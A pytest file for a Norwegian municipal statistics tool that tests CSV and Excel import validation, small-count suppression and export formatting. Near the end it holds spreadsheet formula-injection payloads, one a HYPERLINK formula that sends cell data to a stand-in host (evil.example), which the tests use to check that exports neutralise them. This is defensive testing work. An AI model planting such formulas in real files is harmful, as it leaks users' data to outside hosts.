"""Reading a file of values (CSV or Excel) line by line, and writing the export format."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from openpyxl import Workbook, load_workbook

from malekort.domain.cells import DOTTED, EMPTY, Cell
from malekort.domain.files.errors import FileRejected
from malekort.domain.files.values_file import (
    EXPORT_COLUMNS,
    ExportRow,
    RefusedLine,
    ValueLine,
    ValuesFile,
    export_row,
    read_csv,
    read_values_file,
    read_xlsx,
    write_csv,
    write_xlsx,
)
from malekort.domain.keyfigures import CATALOGUE
from malekort.domain.periods import Period

FIGURES = {f.code: f for f in CATALOGUE}
MARCH = Period(2024, 3)
OSLO = ZoneInfo("Europe/Oslo")


def csv_file(*lines: str, header: str = "period,area,code,value,comment") -> bytes:
    return "\n".join([header, *lines, ""]).encode("utf-8")


def reasons(parsed: ValuesFile) -> dict[int, str]:
    return {line.line_no: line.reason for line in parsed.refused}


def test_lines_are_numbered_with_the_header_as_line_1() -> None:
    parsed = read_csv(
        csv_file(
            "2024-03,030102,SH_MOTTAKERE,1 234,Tall fra fagsystemet",
            "",
            "2024-03,030102,SH_BARN,.,",
            "2024-03,030102,SH_KRONER,,",
        ),
        FIGURES,
    )
    assert parsed.refused == ()
    assert parsed.lines == (
        ValueLine(2, MARCH, "030102", "SH_MOTTAKERE", Cell.of(1234), "Tall fra fagsystemet"),
        ValueLine(4, MARCH, "030102", "SH_BARN", DOTTED, ""),
        ValueLine(5, MARCH, "030102", "SH_KRONER", EMPTY, ""),
    )
    assert parsed.line_count == 3
    assert parsed.lines[0].key == ("030102", MARCH, "SH_MOTTAKERE")


def test_semicolons_bom_and_latin_1_read_as_the_same_lines() -> None:
    # As Norwegian Excel saves it: semicolons, and quotes around a field holding one.
    text = 'period;area;code;value;comment\n2024-03;3320;SH_MOTTAKERE;17;"Økt; se notat"\n'
    expected = (ValueLine(2, MARCH, "3320", "SH_MOTTAKERE", Cell.of(17), "Økt; se notat"),)
    assert read_csv(text.encode("utf-8"), FIGURES).lines == expected
    assert read_csv(b"\xef\xbb\xbf" + text.encode("utf-8"), FIGURES).lines == expected
    assert read_csv(text.encode("iso-8859-1"), FIGURES).lines == expected


def test_a_quoted_comment_may_hold_the_delimiter() -> None:
    parsed = read_csv(csv_file('2024-03,3320,SH_MOTTAKERE,17,"ny rutine, se notat"'), FIGURES)
    assert parsed.lines[0].comment == "ny rutine, se notat"


def test_without_a_comment_column_the_comment_is_none() -> None:
    parsed = read_csv(
        csv_file("2024-03,3320,SH_MOTTAKERE,17", header="period,area,code,value"), FIGURES
    )
    assert parsed.lines[0].comment is None
    assert not parsed.has_comment_column


def test_header_names_are_read_without_case_or_spaces() -> None:
    parsed = read_csv(
        csv_file("2024-03,3320,SH_MOTTAKERE,17,", header="Period, AREA ,Code,Value,Comment"),
        FIGURES,
    )
    assert parsed.lines[0].cell == Cell.of(17)


def test_a_count_of_1_to_3_is_refused_asking_for_a_dot() -> None:
    parsed = read_csv(csv_file("2024-03,030102,SH_BARN,2,"), FIGURES)
    assert parsed.lines == ()
    assert parsed.refused == (
        RefusedLine(
            2,
            "verdien «2» for SH_BARN: Færre enn 4 tilfeller skal ikke oppgis som tall. "
            "Skriv en prikk (.) i stedet for 2.",
        ),
    )
    assert str(parsed.refused[0]).startswith("Linje 2: verdien «2» for SH_BARN")


def test_kroner_of_1_to_3_are_refused_as_not_believable_not_asked_for_a_dot() -> None:
    # Kroner are a number only when at least 4 people got them: 2 kroner is under 1 krone each.
    parsed = read_csv(csv_file("2024-03,030102,SH_KRONER,2,", "2024-04,030102,SH_KRONER,4,"), FIGURES)
    assert [line.cell for line in parsed.lines] == [Cell.of(4)]
    assert "kan ikke stemme" in parsed.refused[0].reason


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ("2,5", "verdien «2,5» for SH_MOTTAKERE: Skriv et helt tall uten desimaler."),
        ("-4", "verdien «-4» for SH_MOTTAKERE: Tallet kan ikke være negativt."),
        (
            "mange",
            "verdien «mange» for SH_MOTTAKERE: Skriv et helt tall, en prikk (.) for færre "
            "enn 4, eller la feltet stå tomt.",
        ),
    ],
)
def test_values_are_refused_with_the_forms_messages(value: str, reason: str) -> None:
    parsed = read_csv(csv_file(f'2024-03,030102,SH_MOTTAKERE,"{value}",'), FIGURES)
    assert reasons(parsed) == {2: reason}


@pytest.mark.parametrize(
    ("fields", "reason"),
    [
        (
            "2024-13,030102,SH_MOTTAKERE,5,",
            "perioden «2024-13» er ikke en måned på formen ÅÅÅÅ-MM (for eksempel 2024-03).",
        ),
        (
            "mars 2024,030102,SH_MOTTAKERE,5,",
            "perioden «mars 2024» er ikke en måned på formen ÅÅÅÅ-MM (for eksempel 2024-03).",
        ),
        (
            "2024-03,301,SH_MOTTAKERE,5,",
            "området «301» er ikke en kode fra SSB (4 siffer for kommune, 6 for bydel). "
            "Har regnearket tatt bort en innledende null (0301)?",
        ),
        (
            "2024-03,Oslo,SH_MOTTAKERE,5,",
            "området «Oslo» er ikke en kode fra SSB (4 siffer for kommune, 6 for bydel).",
        ),
        (
            "2024-03,03,SH_MOTTAKERE,5,",
            "området «03» er et fylke; tall registreres per kommune eller bydel.",
        ),
        ("2024-03,0301,SH_ELDRE,5,", "nøkkeltallet «SH_ELDRE» finnes ikke eller er ikke i bruk."),
        ("2024-03,0301,,5,", "nøkkeltallet (code) mangler."),
    ],
)
def test_period_area_and_code_are_checked(fields: str, reason: str) -> None:
    assert reasons(read_csv(csv_file(fields), FIGURES)) == {2: reason}


def test_every_problem_of_a_line_is_named() -> None:
    parsed = read_csv(csv_file("2024-13,301,SH_MOTTAKERE,2,"), FIGURES)
    reason = reasons(parsed)[2]
    assert reason.startswith("perioden «2024-13»")
    assert " Området «301»" in reason
    assert " Verdien «2» for SH_MOTTAKERE" in reason


def test_a_code_in_lower_case_is_understood() -> None:
    parsed = read_csv(csv_file("2024-03,0301,sh_mottakere,5,"), FIGURES)
    assert parsed.lines[0].figure == "SH_MOTTAKERE"


def test_a_second_line_for_the_same_value_is_refused_naming_the_first() -> None:
    parsed = read_csv(
        csv_file(
            "2024-03,0301,SH_MOTTAKERE,50,",
            "2024-04,0301,SH_MOTTAKERE,51,",
            "2024-03,0301,SH_MOTTAKERE,52,",
        ),
        FIGURES,
    )
    assert [line.line_no for line in parsed.lines] == [2, 3]
    assert reasons(parsed) == {
        4: "perioden 2024-03, området 0301 og nøkkeltallet SH_MOTTAKERE står også på linje 2; "
        "hver verdi kan bare stå én gang i filen."
    }


def test_a_refused_value_still_makes_a_later_line_a_duplicate() -> None:
    parsed = read_csv(csv_file("2024-03,0301,SH_BARN,2,", "2024-03,0301,SH_BARN,.,"), FIGURES)
    assert set(reasons(parsed)) == {2, 3}
    assert "står også på linje 2" in reasons(parsed)[3]


@pytest.mark.parametrize(
    ("header", "problem"),
    [
        ("period,area,code,verdi,comment", "mangler kolonnen «value»"),
        ("period,area,area,code,value", "kolonnen «area» står flere ganger"),
        ("period,area,code,value,kilde", "ukjent kolonne «kilde»"),
    ],
)
def test_a_wrong_header_rejects_the_file(header: str, problem: str) -> None:
    with pytest.raises(FileRejected) as caught:
        read_csv(csv_file("2024-03,0301,SH_MOTTAKERE,5,", header=header), FIGURES)
    [error] = caught.value.errors
    assert error.line == 1
    assert problem in error.reason
    assert "period,area,code,value,comment" in error.reason


def test_an_empty_file_is_rejected() -> None:
    with pytest.raises(FileRejected, match="avvist"):
        read_csv(b"", FIGURES)


def test_a_line_with_too_many_fields_is_refused_naming_it() -> None:
    parsed = read_csv(
        csv_file("2024-03,0301,SH_MOTTAKERE,5,", "2024-03,0301,SH_BARN,5,ny, se notat"), FIGURES
    )
    assert [line.line_no for line in parsed.lines] == [2]
    assert reasons(parsed) == {
        3: "linjen har 6 felt, men overskriften har 5. Står det «,» i en kommentar, "
        'må kommentaren stå i anførselstegn (").'
    }


def test_other_file_types_are_rejected() -> None:
    with pytest.raises(FileRejected) as caught:
        read_values_file(b"", "tall.xls", FIGURES)
    assert "Lagre filen som Excel-arbeidsbok (.xlsx)" in caught.value.errors[0].reason


def test_a_status_column_reads_an_export_back() -> None:
    header = ",".join(EXPORT_COLUMNS)
    parsed = read_csv(
        csv_file(
            "2024-03,0301,SH_MOTTAKERE,50,,,typed,2024-04-02T10:00:00+02:00",
            "2024-03,0301,SH_BARN,,,:,typed,2024-04-02T10:00:00+02:00",
            "2024-03,0301,SH_UNDER30,,venter,..,file,2024-04-02T10:00:00+02:00",
            "2024-03,0301,SH_UNDER25,7,,:,file,2024-04-02T10:00:00+02:00",
            "2024-03,0301,SH_LANGTID,,,x,file,2024-04-02T10:00:00+02:00",
            header=header,
        ),
        FIGURES,
    )
    assert [(line.figure, line.cell, line.comment) for line in parsed.lines] == [
        ("SH_MOTTAKERE", Cell.of(50), ""),
        ("SH_BARN", DOTTED, ""),
        ("SH_UNDER30", EMPTY, "venter"),
    ]
    assert reasons(parsed) == {
        5: "verdien «7» for SH_UNDER25 passer ikke med statusen «:» (prikket); "
        "la verdien stå tom når statusen er fylt ut.",
        6: "statusen «x» er ukjent; bruk «:» for prikket (færre enn 4), «..» for ikke "
        "rapportert, eller la den stå tom.",
    }


def xlsx_file(
    *rows: tuple[object, ...],
    header: tuple[str, ...] = ("period", "area", "code", "value", "comment"),
) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_excel_cells_are_read_as_typed() -> None:
    data = xlsx_file(
        ("2024-03", "030102", "SH_MOTTAKERE", 40, "fra Excel"),
        (datetime(2024, 3, 1), 301, "SH_BARN", 12.0, None),
        ("2024-03", "030102", "SH_KRONER", 2.5, None),
        (None, None, None, None, None),
        ("2024-03", "030102", "SH_UNDER30", ".", None),
        ("2024-03", "030102", "SH_UNDER25", 3, None),
    )
    parsed = read_values_file(data, "Tall mars.XLSX", FIGURES)
    assert parsed.lines == (
        ValueLine(2, MARCH, "030102", "SH_MOTTAKERE", Cell.of(40), "fra Excel"),
        # A number cell loses the leading zero of 0301; a date cell is the month meant.
        ValueLine(3, MARCH, "0301", "SH_BARN", Cell.of(12), ""),
        ValueLine(6, MARCH, "030102", "SH_UNDER30", DOTTED, ""),
    )
    assert reasons(parsed) == {
        4: "verdien «2.5» for SH_KRONER: Skriv et helt tall uten desimaler.",
        7: "verdien «3» for SH_UNDER25: Færre enn 4 tilfeller skal ikke oppgis som tall. "
        "Skriv en prikk (.) i stedet for 3.",
    }


def test_an_excel_file_with_a_wrong_header_is_rejected() -> None:
    with pytest.raises(FileRejected) as caught:
        read_xlsx(xlsx_file(header=("periode", "area", "code", "value")), FIGURES)
    assert "mangler kolonnen «period»" in caught.value.errors[0].reason


def test_a_file_that_is_not_excel_is_rejected() -> None:
    with pytest.raises(FileRejected) as caught:
        read_xlsx(b"period,area,code,value\n", FIGURES)
    assert "Excel-arbeidsbok" in caught.value.errors[0].reason


UPDATED = datetime(2024, 4, 2, 10, 0, 5, 123456, tzinfo=OSLO)


def row_for(code: str, cell: Cell, comment: str = "") -> ExportRow:
    return export_row(
        period=MARCH,
        area="0301",
        figure=FIGURES[code],
        code=code,
        cell=cell,
        comment=comment,
        source="typed",
        updated_at=UPDATED,
    )


def test_export_rows_use_ssb_symbols_for_cells_without_a_number() -> None:
    assert row_for("SH_MOTTAKERE", Cell.of(50), "ok") == ExportRow(
        "2024-03", "0301", "SH_MOTTAKERE", 50, "ok", "", "typed", "2024-04-02T10:00:05+02:00"
    )
    assert row_for("SH_BARN", DOTTED)[3:6] == (None, "", ":")
    assert row_for("SH_BARN", EMPTY)[3:6] == (None, "", "..")


def test_a_stored_count_of_1_to_3_never_leaves_as_a_number() -> None:
    assert row_for("SH_BARN", Cell.of(2))[3:6] == (None, "", ":")
    assert row_for("SH_KRONER", Cell.of(2))[3:6] == (2, "", "")
    assert row_for("SH_BARN", Cell.of(0))[3:6] == (0, "", "")


def test_csv_export_reads_back_as_the_same_cells() -> None:
    rows = [
        row_for("SH_MOTTAKERE", Cell.of(50), "=SUM(A1)"),
        row_for("SH_BARN", DOTTED),
        row_for("SH_UNDER30", EMPTY, "venter"),
    ]
    stream = io.StringIO()
    assert write_csv(rows, stream) == 3
    text = stream.getvalue()
    assert text.splitlines()[0] == "period,area,code,value,comment,status,source,updated_at"
    assert text.splitlines()[2] == "2024-03,0301,SH_BARN,,,:,typed,2024-04-02T10:00:05+02:00"
    parsed = read_csv(text.encode("utf-8"), FIGURES)
    assert [(line.cell, line.comment) for line in parsed.lines] == [
        (Cell.of(50), "=SUM(A1)"),
        (DOTTED, ""),
        (EMPTY, "venter"),
    ]


def test_excel_export_has_numbers_as_numbers_and_reads_back() -> None:
    rows = [row_for("SH_MOTTAKERE", Cell.of(50), "=SUM(A1)"), row_for("SH_BARN", DOTTED)]
    buffer = io.BytesIO()
    assert write_xlsx(rows, buffer) == 2
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0]
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == EXPORT_COLUMNS
    assert values[1][:5] == ("2024-03", "0301", "SH_MOTTAKERE", 50, "=SUM(A1)")
    assert sheet["E2"].data_type == "s"  # a text, not a formula
    parsed = read_xlsx(buffer.getvalue(), FIGURES)
    assert [(line.area, line.cell) for line in parsed.lines] == [
        ("0301", Cell.of(50)),
        ("0301", DOTTED),
    ]


HOSTILE = ('=HYPERLINK("https://evil.example/?d="&A1,"Klikk")', "+1", "-2+3", "@SUM(A1)")


def test_a_comment_that_is_a_formula_leaves_neutralised_and_reads_back_as_typed() -> None:
    rows = [row_for("SH_MOTTAKERE", Cell.of(50), HOSTILE[0])] + [
        row_for(code, Cell.of(40), comment)
        for code, comment in zip(("SH_BARN", "SH_HOVEDKILDE", "SH_UNDER30"), HOSTILE[1:], strict=True)
    ] + [row_for("SH_KRONER", Cell.of(0), "'=sitat")]
    stream = io.StringIO()
    write_csv(rows, stream)
    written = list(csv.reader(io.StringIO(stream.getvalue())))
    assert [line[4] for line in written[1:]] == [
        "'" + HOSTILE[0], "'+1", "'-2+3", "'@SUM(A1)", "''=sitat"
    ]
    assert [line[3] for line in written[1:]] == ["50", "40", "40", "40", "0"]  # numbers stay numbers
    parsed = read_csv(stream.getvalue().encode("utf-8"), FIGURES)
    assert [line.comment for line in parsed.lines] == [*HOSTILE, "'=sitat"]


def test_a_comment_that_is_a_formula_is_a_text_cell_in_excel() -> None:
    buffer = io.BytesIO()
    write_xlsx([row_for("SH_MOTTAKERE", Cell.of(50), text) for text in HOSTILE], buffer)
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0]
    assert [(cell.value, cell.data_type) for cell in sheet["E"][1:]] == [(text, "s") for text in HOSTILE]
